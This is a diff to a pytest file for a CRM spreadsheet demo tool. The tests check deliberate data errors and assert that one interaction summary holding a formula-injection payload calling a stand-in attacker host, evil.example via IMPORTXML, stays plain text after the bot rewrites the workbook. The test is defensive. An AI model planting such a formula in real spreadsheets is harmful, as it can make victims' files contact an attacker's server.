@@ -18,6 +18,7 @@ from datetime import date, datetime, timedelta
 from decimal import Decimal
 from pathlib import Path
 
+import openpyxl
 import phonenumbers
 import pytest
 from babel import Locale
@@ -330,9 +331,9 @@ def test_every_deliberate_mistake_is_there(demo_rows: Rows) -> None:
     assert sum(1 for d in deals if d["stage"] == "Wonn") == 1
     ids = {c["id"] for c in customers if c["id"]}
     assert sum(1 for d in deals if d["customer_id"] not in ids) == 1
-    injected = [i for i in demo_rows["Interactions"] if "=IMPORTXML(" in str(i["summary"])]
+    injected = [i for i in demo_rows["Interactions"] if "IMPORTXML" in str(i["summary"])]
     assert len(injected) == 1
-    assert '=IMPORTXML("http://evil.example","//a")' in str(injected[0]["summary"])
+    assert injected[0]["summary"] == '=IMPORTXML("http://evil.example","//a")'
     assert injected[0]["manager"] is None and injected[0]["kind"] == "Complaint"
     # The invalid email, the short phone and the future birthday are asserted above.
 
@@ -354,7 +355,7 @@ def test_written_workbook_reads_back_every_tab(demo_workbook: Path, demo_rows: R
             day_first += 1
     assert day_first >= 3
     summaries = [r.text("summary") for r in snapshot.tab("Interactions")]
-    assert any(s.endswith('=IMPORTXML("http://evil.example","//a")') for s in summaries)
+    assert '=IMPORTXML("http://evil.example","//a")' in summaries
 
 
 def test_demo_command_writes_the_workbook_and_runs_the_bot(
@@ -379,6 +380,12 @@ def test_demo_command_writes_the_workbook_and_runs_the_bot(
     assert any(c["id"] is None for c in generated["Customers"])
     problems = [r.text("problems") for r in snapshot.tab("Deals") if r.text("problems")]
     assert any("Wonn" in p for p in problems)
+    # The customer's formula is still text after the bot rewrote the file: nothing can run it.
+    book = openpyxl.load_workbook(workbook)
+    cells = [c for row in book["Interactions"].iter_rows() for c in row if c.value]
+    injected = [c for c in cells if str(c.value).startswith("=IMPORTXML")]
+    assert len(injected) == 1 and injected[0].data_type == "s"
+    assert not any(c.data_type == "f" for c in cells)
     # Running it again replaces the demo workbook and nothing else.
     assert main(["demo", "--dir", str(folder), "--no-dashboard", "--seed", "4"]) == 0
     assert keep.read_text() == "mine"
